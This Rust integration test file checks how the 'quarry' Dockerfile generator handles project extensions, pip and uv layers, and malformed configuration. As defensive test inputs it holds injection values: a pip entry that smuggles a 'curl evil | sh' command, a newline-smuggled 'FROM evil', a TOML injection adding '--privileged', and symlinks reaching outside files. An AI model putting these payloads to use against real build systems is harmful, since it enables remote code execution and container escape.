//! Project extensions as a user writes them: folders named by `extension_dirs` and the two-line
//! keys, with their mistakes, and `quarry new-extension`. deps_rocker's files: `tests/deps.rs`.

mod common;

use std::path::{Path, PathBuf};

use common::{offline as quarry, stderr, stdout, write};

/// A project with a folder extension `eigen_tools` (depending on the catalog's `git`), and every
/// two-line key.
fn project(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("quarry-projext-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    write(
        &dir,
        "quarry.toml",
        "image = \"ubuntu:24.04\"\n\
         extension_dirs = [\".quarry/extensions/eigen\"]\n\
         apt = [\"libeigen3-dev\"]\n\
         pip = { base = [\"numpy==2.1\"], main = [\"rich\"] }\n\
         copy = [{ path = \"config\", dest = \"/etc/app\" }]\n\
         scripts = { main = [\"scripts/setup.sh\"], post = [\"scripts/post.sh\"] }\n",
    );
    write(
        &dir,
        ".quarry/extensions/eigen/extension.toml",
        "name = \"eigen_tools\"\ndescription = \"eigen helpers\"\ndepends_on = [\"git\"]\n\
         apt_packages = [\"cmake\"]\nsetup = \"templates/setup.Dockerfile.j2\"\n\
         [options.level]\ndescription = \"level\"\ndefault = \"1\"\nrule = \"uint\"\n\
         [run]\nenv = [\"EIGEN_LEVEL={{ options.level }}\"]\n",
    );
    write(
        &dir,
        ".quarry/extensions/eigen/templates/setup.Dockerfile.j2",
        "RUN echo level {{ options.level }}\n",
    );
    write(&dir, "config/app.toml", "a = 1\n");
    write(&dir, "config/sub/b.txt", "b\n");
    write(&dir, "scripts/setup.sh", "echo setup\n");
    write(&dir, "scripts/post.sh", "echo post\n");
    dir
}

fn render(dir: &Path, args: &[&str]) -> String {
    let mut all = vec!["render"];
    all.extend(args);
    let o = quarry(dir, &all);
    assert!(o.status.success(), "{}", stderr(&o));
    stdout(&o)
}

#[test]
fn folder_and_two_line_extensions_render_with_their_options_and_dependencies() {
    let dir = project("render");
    let out = render(&dir, &["--eigen-tools-level", "3"]);
    assert!(out.contains(
        "# Extensions: curl, git, eigen_tools, project_apt, project_pip, project_scripts, project_copy, project_scripts_post"
    ), "{out}");
    assert!(out.contains("RUN echo level 3\n"), "{out}");
    // The lock holds them, in the chain order.
    let lock = std::fs::read_to_string(dir.join("quarry.lock")).unwrap();
    assert!(lock.contains("\"eigen_tools\"") && lock.contains("\"project_pip\""), "{lock}");
    assert!(out.contains("libeigen3-dev"));
    // pip: a builder on the final image, one step per layer, copied.
    assert!(out.contains("FROM ubuntu:24.04 AS project_pip_builder"));
    assert!(
        out.contains("venv/bin/pip install 'numpy==2.1'\n") && out.contains("venv/bin/pip install 'rich'\n")
    );
    assert!(out.contains(
        "COPY --link --from=project_pip_builder /opt/quarry/project_pip/venv /opt/quarry/project_pip/venv"
    ));
    // copy: every file of the folder, where the image gets it.
    assert!(out.contains("COPY --link quarry/project_copy/config/sub/b.txt /etc/app/sub/b.txt"));
    // scripts: from the context; `post` after the copies.
    let post = out.find("quarry/project_scripts_post/scripts/post.sh").unwrap();
    assert!(post > out.find("COPY --link quarry/project_copy").unwrap());
    // Its `[run]` entries reach `docker run`, with the option's value.
    let run = quarry(&dir, &["run", "--dry-run", "--eigen-tools-level", "3", "--", "true"]);
    assert!(run.status.success(), "{}", stderr(&run));
    assert!(stdout(&run).contains("--env EIGEN_LEVEL=3"), "{}", stdout(&run));
    // `quarry show` and `list` know them.
    let show = quarry(&dir, &["show", "eigen_tools"]);
    assert!(stdout(&show).contains("--eigen-tools-level"), "{}", stdout(&show));
    let list = stdout(&quarry(&dir, &["list"]));
    assert!(list.contains("project_scripts_post") && list.contains("eigen_tools"));
    // `!name` leaves one out.
    let mut toml = std::fs::read_to_string(dir.join("quarry.toml")).unwrap();
    toml.push_str("extensions = [\"!project_copy\"]\n");
    std::fs::write(dir.join("quarry.toml"), toml).unwrap();
    assert!(!render(&dir, &[]).contains("project_copy"));
    std::fs::remove_dir_all(dir).unwrap();
}

/// The physical promise: a project extension's file or template changes the Dockerfile only in
/// that extension's steps.
#[test]
fn a_changed_template_or_file_changes_only_its_own_lines() {
    let dir = project("change");
    let before = render(&dir, &[]);
    write(
        &dir,
        ".quarry/extensions/eigen/templates/setup.Dockerfile.j2",
        "RUN echo level {{ options.level }} changed\n",
    );
    let after = render(&dir, &[]);
    let diff: Vec<(&str, &str)> = before.lines().zip(after.lines()).filter(|(a, b)| a != b).collect();
    assert_eq!(diff, [("RUN echo level 1", "RUN echo level 1 changed")]);
    // explain agrees: the changed step re-runs, then only the chain steps that follow it (a
    // RUN's key holds the layers below it); no builder step and no step before it.
    std::fs::write(dir.join("old.Dockerfile"), &before).unwrap();
    std::fs::write(dir.join("new.Dockerfile"), &after).unwrap();
    let explained = quarry(&dir, &["explain", "old.Dockerfile", "new.Dockerfile"]);
    assert!(explained.status.success(), "{}", stderr(&explained));
    let text = stdout(&explained);
    let lines: Vec<&str> = text.lines().collect();
    let reruns: Vec<usize> = (0..lines.len()).filter(|&i| lines[i].starts_with("re-run")).collect();
    assert!(lines[reruns[0]].contains("eigen_tools: RUN echo level 1 changed"), "{text}");
    for &i in &reruns[1..] {
        assert!(lines[i].contains("[quarry_final"), "{text}");
        assert!(lines[i + 1].contains("an earlier step in this stage ran again"), "{text}");
    }
    let stage = |l: &str| l.split(']').next().unwrap_or_default().to_owned();
    assert!(!lines.iter().any(|l| l.starts_with("re-run") && stage(l).contains("_builder")), "{text}");
    // A copied file's content reaches the build context, not the Dockerfile.
    write(&dir, "config/app.toml", "a = 2\n");
    assert_eq!(render(&dir, &[]), after);
    // A pip change touches the builder's last step alone.
    let toml = std::fs::read_to_string(dir.join("quarry.toml")).unwrap();
    std::fs::write(dir.join("quarry.toml"), toml.replace("[\"rich\"]", "[\"rich>=13\"]")).unwrap();
    let pip = render(&dir, &[]);
    let diff: Vec<(&str, &str)> = after.lines().zip(pip.lines()).filter(|(a, b)| a != b).collect();
    assert_eq!(diff.len(), 1, "{diff:?}");
    assert!(diff[0].1.ends_with("pip install 'rich>=13'"));
    std::fs::remove_dir_all(dir).unwrap();
}

/// `uv` is `pip` installed by uv: the venv is made on the image's python3 (never a Python uv
/// downloads), uv is mounted from the catalog's `uv` builder into the steps that use it and is in
/// the image, and a change to `main` changes that layer's line alone. `pip` and `uv` together are
/// an error at the second key.
#[test]
fn uv_installs_the_python_packages_with_the_catalogs_uv() {
    let dir = std::env::temp_dir().join(format!("quarry-projext-uv-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let config = |main: &str| {
        format!("image = \"ubuntu:24.04\"\nuv = {{ base = [\"numpy==2.1\"], main = [\"{main}\"] }}\n")
    };
    write(&dir, "quarry.toml", &config("rich>=13"));
    let before = render(&dir, &[]);
    let mount = "--mount=type=bind,from=uv_builder,source=/opt/quarry/uv/bin/uv,target=/usr/local/bin/uv";
    for line in [
        "FROM ubuntu:22.04 AS uv_builder",
        "FROM ubuntu:24.04 AS project_uv_builder",
        "    uv venv --python-preference only-system --python python3 /opt/quarry/project_uv/venv",
        "    UV_LINK_MODE=copy uv pip install --compile-bytecode --python /opt/quarry/project_uv/venv/bin/python 'numpy==2.1'",
        "    --mount=type=cache,id=uv-${CACHE_ID},target=/root/.cache/uv,sharing=locked \\",
        "COPY --link --from=uv_builder /opt/quarry/uv/bin/uv /usr/local/bin/uv",
        "COPY --link --from=project_uv_builder /opt/quarry/project_uv/venv /opt/quarry/project_uv/venv",
        "ENV VIRTUAL_ENV=/opt/quarry/project_uv/venv \\",
    ] {
        assert!(before.lines().any(|l| l == line), "no line {line:?} in:\n{before}");
    }
    assert_eq!(before.matches(&format!("RUN {mount} \\\n")).count(), 3, "{before}");
    assert!(!before.contains("python3-venv"), "uv needs no ensurepip:\n{before}");
    write(&dir, "quarry.toml", &config("rich>=14"));
    let after = render(&dir, &[]);
    let diff: Vec<(&str, &str)> = before.lines().zip(after.lines()).filter(|(a, b)| a != b).collect();
    assert_eq!(diff.len(), 1, "{diff:?}");
    assert!(diff[0].1.ends_with("/opt/quarry/project_uv/venv/bin/python 'rich>=14'"), "{diff:?}");
    let shown = stdout(&quarry(&dir, &["show", "project_uv"]));
    assert!(shown.contains("quarry.toml `uv`"), "{shown}");

    write(&dir, "quarry.toml", &format!("{}pip = [\"rich\"]\n", config("rich>=14")));
    let both = quarry(&dir, &["render"]);
    assert_eq!(both.status.code(), Some(1));
    let text = stderr(&both);
    assert!(
        text.contains("quarry.toml:2:") && text.contains("`pip` and `uv` both list Python packages"),
        "{text}"
    );
    std::fs::remove_dir_all(dir).unwrap();
}

/// `quarry explain OLD.toml NEW.toml` renders each side with its own two-line keys: an `apt`
/// change between the files is a re-run, although the current quarry.toml has neither list. A
/// configuration kept outside the project reads the folders it names from the current project.
#[test]
fn explain_reads_each_configurations_own_project_extensions() {
    let dir = project("explain-own");
    let original = std::fs::read_to_string(dir.join("quarry.toml")).unwrap();
    write(&dir, "old.toml", &original);
    write(&dir, "new.toml", &original.replace("[\"libeigen3-dev\"]", "[\"libeigen3-dev\", \"jq\"]"));
    let explained = quarry(&dir, &["explain", "old.toml", "new.toml"]);
    assert!(explained.status.success(), "{}", stderr(&explained));
    let text = stdout(&explained);
    let lines: Vec<&str> = text.lines().collect();
    let first = lines.iter().position(|l| l.starts_with("re-run")).unwrap_or_else(|| panic!("{text}"));
    assert!(lines[first].contains("project_apt: RUN"), "new.toml's apt step re-runs first:\n{text}");
    assert!(lines[first + 1].contains("`…jq libeigen3-dev`"), "{text}");
    // The same file against itself: nothing re-runs, with the current project's lists unused.
    let same = stdout(&quarry(&dir, &["explain", "old.toml", "old.toml"]));
    assert!(!same.lines().any(|l| l.starts_with("re-run")), "{same}");
    // Outside the project (as `git show HEAD:quarry.toml > /tmp/old.toml` leaves it), the folders
    // it names come from the current project.
    let elsewhere = dir.with_extension("elsewhere");
    write(&elsewhere, "old.toml", &original);
    let out = elsewhere.join("old.toml").display().to_string();
    let explained = quarry(&dir, &["explain", &out, "new.toml"]);
    assert!(explained.status.success(), "{}", stderr(&explained));
    assert_eq!(stdout(&explained), text.replace("old.toml", &out));
    std::fs::remove_dir_all(elsewhere).unwrap();
    std::fs::remove_dir_all(dir).unwrap();
}

/// Each mistake: exit 1, the file and line, what is wrong, and no Dockerfile or lock written.
#[test]
fn mistakes_name_the_file_and_line_and_write_nothing() {
    let cases: &[(&str, &str, &str, &str)] = &[
        (
            "missing-folder",
            "quarry.toml",
            "extension_dirs = [\".quarry/extensions/nope\"]",
            "/.quarry/extensions/nope` does not exist",
        ),
        (
            "outside",
            "quarry.toml",
            "copy = [{ path = \"../etc\", dest = \"/etc/x\" }]",
            "is not a path inside the project",
        ),
        ("injection", "quarry.toml", "apt = [\"libeigen3-dev\\nFROM evil\"]", "is not a Debian package name"),
        (
            "pip-injection",
            "quarry.toml",
            "pip = [\"rich'; curl evil | sh; '\"]",
            "is not a requirement quarry accepts",
        ),
        (
            "repository-injection",
            "quarry.toml",
            r#"apt_repositories = [{ name = "ros\"\nkey_url = \"https://example.org/k.gpg\"\nsource = \"deb https://example.org/ros main\"\n[run]\nargs = [\"--privileged\"]\n[x]\n#", key_url = "https://example.org/k.gpg", source = "deb https://example.org/ros main" }]"#,
            "`apt_repositories.name`: \"ros\\\"\\nkey_url",
        ),
        ("bad-layer", "quarry.toml", "apt = { later = [\"git\"] }", "has no layer `later`"),
        (
            "template-syntax",
            ".quarry/extensions/eigen/templates/setup.Dockerfile.j2",
            "RUN echo {{ options.level ",
            "setup.Dockerfile.j2:1:",
        ),
        (
            "template-variable",
            ".quarry/extensions/eigen/templates/setup.Dockerfile.j2",
            "RUN echo {{ options.levle }}",
            "there is no option `levle`: declare it under `[options]` [rule: template-variable]",
        ),
        (
            "template-instruction",
            ".quarry/extensions/eigen/templates/setup.Dockerfile.j2",
            "FROM evil\nRUN true",
            "[rule: template-output]",
        ),
        (
            "cycle",
            ".quarry/extensions/eigen/extension.toml",
            "name = \"eigen_tools\"\ndescription = \"e\"\ndepends_on = [\"project_apt_dep\"]\n",
            "",
        ),
        (
            "clash",
            ".quarry/extensions/eigen/extension.toml",
            "name = \"git\"\ndescription = \"mine\"\n",
            "has the name of the catalog extension `git` (crate `quarry-ext-git`)",
        ),
    ];
    for (name, file, text, expected) in cases {
        let dir = project(name);
        if *file == "quarry.toml" {
            let old = std::fs::read_to_string(dir.join(file)).unwrap();
            let key = text.split(' ').next().unwrap();
            let kept: Vec<&str> = old.lines().filter(|l| !l.starts_with(&format!("{key} "))).collect();
            std::fs::write(dir.join(file), format!("{}\n{text}\n", kept.join("\n"))).unwrap();
        } else if *name == "cycle" {
            // eigen_tools → a second project extension → eigen_tools.
            write(&dir, file, text);
            write(
                &dir,
                ".quarry/extensions/dep/extension.toml",
                "name = \"project_apt_dep\"\ndescription = \"d\"\ndepends_on = [\"eigen_tools\"]\n",
            );
            let toml = std::fs::read_to_string(dir.join("quarry.toml")).unwrap();
            std::fs::write(
                dir.join("quarry.toml"),
                toml.replace(
                    "\".quarry/extensions/eigen\"]",
                    "\".quarry/extensions/eigen\", \".quarry/extensions/dep\"]",
                ),
            )
            .unwrap();
        } else {
            write(&dir, file, text);
        }
        let out = dir.join("Dockerfile");
        let o = quarry(&dir, &["render", "-o", out.to_str().unwrap()]);
        let err = stderr(&o);
        assert_eq!(o.status.code(), Some(1), "{name}: {err}");
        assert!(err.starts_with("error: "), "{name}: {err}");
        assert!(err.contains("hint: "), "{name}: {err}");
        if *name == "cycle" {
            assert!(
                err.contains("eigen_tools") && err.contains("project_apt_dep") && err.contains("cycle"),
                "{err}"
            );
        } else {
            assert!(err.contains(expected), "{name}: {err}");
        }
        assert!(!err.contains("panicked"), "{name}: {err}");
        assert!(!out.exists() && !dir.join("quarry.lock").exists(), "{name}: something was written");
        std::fs::remove_dir_all(dir).unwrap();
    }
}

#[test]
fn links_leaving_the_project_are_refused() {
    let dir = project("links");
    std::os::unix::fs::symlink("/etc/hostname", dir.join("config/leak")).unwrap();
    let o = quarry(&dir, &["render"]);
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("`config/leak` is a link leading outside the project"), "{}", stderr(&o));
    std::fs::remove_file(dir.join("config/leak")).unwrap();
    std::os::unix::fs::symlink(
        "/etc/hostname",
        dir.join(".quarry/extensions/eigen/templates/setup.Dockerfile.j2"),
    )
    .map(|_| ())
    .unwrap_or_else(|_| {
        std::fs::remove_file(dir.join(".quarry/extensions/eigen/templates/setup.Dockerfile.j2")).unwrap();
        std::os::unix::fs::symlink(
            "/etc/hostname",
            dir.join(".quarry/extensions/eigen/templates/setup.Dockerfile.j2"),
        )
        .unwrap();
    });
    let o = quarry(&dir, &["render"]);
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("[rule: missing-file]"), "{}", stderr(&o));
    std::fs::remove_dir_all(dir).unwrap();
}

/// Every file a project names is read one way (`quarry_codegen::files`): a regular file inside
/// the project, bounded. `/dev/zero`, a FIFO or a file outside named as `extension.toml` is an
/// error naming it, at once (a FIFO used to hang every command, `/dev/zero` to eat all memory),
/// and nothing of a file outside is echoed.
#[test]
fn every_file_a_project_names_is_a_regular_file_inside_it() {
    let dir = project("files");
    let metadata = dir.join(".quarry/extensions/eigen/extension.toml");
    std::fs::write(dir.join("../outside-secret.toml"), "secret_key_name = 1\n").unwrap();
    let fifo =
        |path: &Path| assert!(std::process::Command::new("mkfifo").arg(path).status().unwrap().success());
    type Make<'a> = &'a dyn Fn(&Path);
    let cases: [(Make, &str); 3] = [
        (
            &|p: &Path| std::os::unix::fs::symlink("/dev/zero", p).unwrap(),
            "leads outside the project (to `/dev/zero`)",
        ),
        (&|p: &Path| fifo(p), "is a FIFO (named pipe), not a regular file"),
        (
            &|p: &Path| std::os::unix::fs::symlink("../../../../outside-secret.toml", p).unwrap(),
            "leads outside the project",
        ),
    ];
    for (make, want) in cases {
        std::fs::remove_file(&metadata).unwrap();
        make(&metadata);
        let started = std::time::Instant::now();
        let o = quarry(&dir, &["list"]);
        assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
        assert!(started.elapsed() < std::time::Duration::from_secs(30), "it waited");
        assert!(stderr(&o).contains(want), "{want}: {}", stderr(&o));
        assert!(!stderr(&o).contains("secret_key_name"), "{}", stderr(&o));
    }
    std::fs::remove_file(&metadata).unwrap();
    write(&dir, ".quarry/extensions/eigen/extension.toml", "name = \"eigen_tools\"\ndescription = \"e\"\n");
    // A script that is a FIFO.
    std::fs::remove_file(dir.join("scripts/setup.sh")).unwrap();
    fifo(&dir.join("scripts/setup.sh"));
    let o = quarry(&dir, &["render"]);
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("`scripts/setup.sh` is not a file"), "{}", stderr(&o));
    // The project's Dockerfile, through a link out of the project.
    std::fs::create_dir_all(dir.join("../outside-docker")).unwrap();
    std::fs::write(dir.join("../outside-docker/Dockerfile"), "FROM debian\n").unwrap();
    std::os::unix::fs::symlink("../outside-docker", dir.join("docker")).unwrap();
    write(&dir, "quarry.toml", "dockerfile = \"docker/Dockerfile\"\nextensions = [\"git\"]\n");
    let o = quarry(&dir, &["render"]);
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("cannot use the project's Dockerfile `"), "{}", stderr(&o));
    assert!(stderr(&o).contains("leads outside the project"), "{}", stderr(&o));
    std::fs::remove_dir_all(dir.join("../outside-docker")).unwrap();
    std::fs::remove_file(dir.join("../outside-secret.toml")).unwrap();
    std::fs::remove_dir_all(dir).unwrap();
}

#[test]
fn new_extension_scaffolds_a_folder_that_renders_as_it_is() {
    let dir = std::env::temp_dir().join(format!("quarry-projext-new-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    write(&dir, "quarry.toml", "image = \"ubuntu:24.04\"\n\n[run]\n");
    let bad = quarry(&dir, &["new-extension", "My-Tool"]);
    assert_eq!(bad.status.code(), Some(1));
    assert!(stderr(&bad).contains("such as `my_tool`"), "{}", stderr(&bad));
    let taken = quarry(&dir, &["new-extension", "git"]);
    assert!(stderr(&taken).contains("an extension `git` exists already (crate `quarry-ext-git`)"));
    let o = quarry(&dir, &["new-extension", "my_tool"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let toml = std::fs::read_to_string(dir.join("quarry.toml")).unwrap();
    assert_eq!(
        toml,
        "image = \"ubuntu:24.04\"\n\nextension_dirs = [\".quarry/extensions/my_tool\"]\n[run]\n"
    );
    let out = render(&dir, &["--my-tool-version", "2.0.0"]);
    assert!(out.contains("# my_tool: setup") && out.contains("MY_TOOL_VERSION=2.0.0"), "{out}");
    // A `.quarry` that links out of the project is not written through.
    let elsewhere = dir.with_extension("elsewhere");
    std::fs::create_dir_all(&elsewhere).unwrap();
    std::fs::rename(dir.join(".quarry"), elsewhere.join("moved")).unwrap();
    std::os::unix::fs::symlink(elsewhere.join("moved"), dir.join(".quarry")).unwrap();
    let o = quarry(&dir, &["new-extension", "other"]);
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("leads outside the project (to `"), "{}", stderr(&o));
    assert!(!elsewhere.join("moved/extensions/other").exists());
    std::fs::remove_dir_all(elsewhere).unwrap();
    std::fs::remove_dir_all(dir).unwrap();
}

/// A project's scripts see every package it asked for: they follow its `apt` layers (also when
/// quarry.lock, written before `apt` was added, put them first), and before the copies they run
/// with the project's venv mounted and on PATH. A script with a shebang runs with its
/// interpreter, any other with bash.
#[test]
fn scripts_see_the_projects_packages_and_keep_their_interpreter() {
    let dir = std::env::temp_dir().join(format!("quarry-projext-scripts-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    write(&dir, "quarry.toml", "image = \"debian:bookworm\"\nscripts = [\"setup.py\", \"plain.sh\"]\n");
    write(&dir, "setup.py", "#!/usr/bin/env python3\nprint('hi')\n");
    write(&dir, "plain.sh", "echo plain\n");
    let first = render(&dir, &[]);
    assert!(
        first.contains("target=/tmp/quarry-scripts/setup.py \\\n    /tmp/quarry-scripts/setup.py\n"),
        "{first}"
    );
    assert!(
        first.contains("target=/tmp/quarry-scripts/plain.sh \\\n    bash /tmp/quarry-scripts/plain.sh\n"),
        "{first}"
    );
    // Added later: the lock holds project_scripts alone, yet the packages come first.
    write(
        &dir,
        "quarry.toml",
        "image = \"debian:bookworm\"\nscripts = [\"setup.py\", \"plain.sh\"]\napt = [\"jq\"]\npip = [\"cowsay\"]\n",
    );
    let o = quarry(&dir, &["render"]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(stderr(&o).contains("breaks a dependency"), "{}", stderr(&o));
    let out = stdout(&o);
    let at = |needle: &str| out.find(needle).unwrap_or_else(|| panic!("{needle} in {out}"));
    assert!(at("# project_apt: apt packages") < at("# project_scripts: setup"), "{out}");
    assert!(at("# project_pip: apt packages") < at("# project_scripts: setup"), "{out}");
    assert!(out.contains(
        "RUN --mount=type=bind,from=project_pip_builder,source=/opt/quarry/project_pip/venv,target=/opt/quarry/project_pip/venv \\\n    \
         --mount=type=bind,source=quarry/project_scripts/setup.py,target=/tmp/quarry-scripts/setup.py \\\n    \
         env VIRTUAL_ENV=/opt/quarry/project_pip/venv PATH=/opt/quarry/project_pip/venv/bin:$PATH /tmp/quarry-scripts/setup.py\n"
    ), "{out}");
    let lock = std::fs::read_to_string(dir.join("quarry.lock")).unwrap();
    let names: Vec<&str> = lock.lines().filter_map(|l| l.strip_prefix("name = ")).collect();
    assert_eq!(names, ["\"project_apt\"", "\"project_pip\"", "\"project_scripts\""], "{lock}");
    // The context carries the script with its mode, so the kernel runs its interpreter.
    let o = quarry(&dir, &["render", "-o", "Dockerfile"]);
    assert!(o.status.success(), "{}", stderr(&o));
    use std::os::unix::fs::PermissionsExt;
    let mode = |p: &str| std::fs::metadata(dir.join(p)).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode("quarry/project_scripts/setup.py"), 0o755);
    assert_eq!(mode("quarry/project_scripts/plain.sh"), 0o644);
    std::fs::remove_dir_all(dir).unwrap();
}
